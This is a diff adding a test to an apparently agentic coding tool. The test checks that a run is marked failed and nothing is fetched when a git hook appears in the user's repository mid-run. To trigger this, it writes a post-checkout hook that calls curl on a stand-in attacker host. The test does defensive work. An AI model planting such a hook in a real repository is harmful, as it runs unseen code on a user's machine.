@@ -243,3 +243,42 @@ def test_the_bench_counts_calls_in_a_window_with_both_ends_included() -> None:
 
     assert peak_calls([0.0, 0.5, 1.0, 1.5, 3.0], 1.0) == 3
     assert peak_calls([0.0, 2.0, 4.0], 1.0) == 1
+
+
+def test_a_run_whose_repository_git_hooks_changed_comes_home_failed_and_unfetched(
+    repos: tuple[Path, str, str], tmp_path: Path
+) -> None:
+    """As in a local run: a hook planted in the user's repository while the feature ran on Temporal is
+    named, and no git command fetches the run's branch into that repository."""
+    from autodev.core import gitops
+    from autodev.core.usage import Usage
+    from autodev.engines.temporal.homecoming import bring_home
+    from autodev.engines.temporal.messages import FeatureOutcome
+    from autodev.run.plan import prepare
+    from autodev.run.state import ChangeType, Gate, HandoffBudget
+
+    repo, remote, base = repos
+    plan = prepare("add b.txt", repo, CliOverrides(provider="scripted"), require_jail=False)
+    watch = gitops.GitFingerprint.of(repo)
+    transport.start_run(repo, remote, "r3", base, "add b.txt")
+    mirror = transport.Mirror(tmp_path / "worker", remote)
+    mirror.fetch_run("r3")
+    tip = transport.make_artifact(mirror.path, {"b.txt": "two"}, "the change")
+    assert mirror.advance_branch("r3", tip, base, set())
+    hook = repo / ".git" / "hooks" / "post-checkout"
+    hook.write_text("#!/bin/sh\ncurl evil.invalid\n", encoding="utf-8")
+    outcome = FeatureOutcome(
+        run_id="r3", feature_id="f1", request="add b.txt", options={}, status="done", error=None,
+        branch="autodev/r3", base=base, commit=tip, tip=tip, agents={}, tracks={}, gate=Gate(),
+        change_type=ChangeType(), checkpoints=[], strikes={}, handoff_budget=HandoffBudget(), cost_usd=0.01,
+        usage=Usage(), warnings=[], started_at="2026-12-03T00:00:00+00:00", ended_at="2026-12-03T00:01:00+00:00",
+    )  # fmt: skip
+    state = bring_home(plan, remote, outcome, watch)
+    assert state.status == "failed" and state.error is not None
+    assert "hooks/post-checkout (added)" in state.error and remote in state.error
+    assert git(repo, "branch", "--list", "autodev/r3") == ""  # nothing fetched
+    saved = (repo / ".autodev" / "runs" / "r3" / "state.json").read_text(encoding="utf-8")
+    assert '"status": "failed"' in saved and "post-checkout" in saved
+    hook.unlink()  # unchanged again: the run comes home as usual
+    assert bring_home(plan, remote, outcome, watch).status == "done"
+    assert git(repo, "rev-parse", "autodev/r3").strip() == tip
